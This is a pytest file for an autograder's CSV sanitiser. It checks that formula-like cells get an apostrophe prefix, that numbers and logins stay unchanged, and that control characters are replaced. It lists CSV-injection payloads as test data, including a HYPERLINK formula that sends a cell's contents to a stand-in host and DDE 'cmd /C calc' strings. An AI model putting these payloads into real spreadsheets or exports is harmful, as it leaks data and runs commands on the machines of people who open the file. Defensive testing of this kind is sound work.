"""Cells of CSV files: no formula of a student's, and numbers and logins as they were."""

from __future__ import annotations

import csv
import io

import pytest

from autograder.spreadsheet import cell, identifier

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\uff1d1+1",
    "\uff0b1(2)",
)


@pytest.mark.parametrize("text", FORMULAS)
@pytest.mark.parametrize("treat", [cell, identifier])
def test_a_formula_begins_with_an_apostrophe(treat, text: str):
    assert treat(text) == "'" + text.replace("\t", "?").replace("\r", "?").replace("\n", "?")


@pytest.mark.parametrize("text", ["Doe;=1+1", 'Doe,"=1+1"', "a| @SUM(1)"])
def test_also_where_another_languages_spreadsheet_begins_a_cell(text: str):
    assert cell(text) != text and cell(text).replace("'", "") == text


@pytest.mark.parametrize(
    "value", ["-3.5", "+2", "1e-5", "-1,5", "", "Zo\xeb", "Doe, John", "o'Neil", "a=b", -3.5, 0, None]
)
def test_numbers_and_names_stay(value: object):
    assert cell(value) == identifier(value) == value


@pytest.mark.parametrize("login", ["-ada", "@ada", "+49123", "ada+lovelace@example.org", "jos\xe9"])
def test_a_login_by_which_rows_are_found_stays(login: str):
    assert identifier(login) == login


def test_a_name_that_is_no_text_can_be_written_and_none_steers_a_terminal():
    assert cell("a\x1b[2J\rb") == identifier("a\x1b[2J\rb") == "a?[2J?b"
    written = io.StringIO()
    csv.writer(written).writerow([cell("b\udcff"), identifier("b\udcff")])
    assert written.getvalue().encode() == b"b?,b?\r\n"
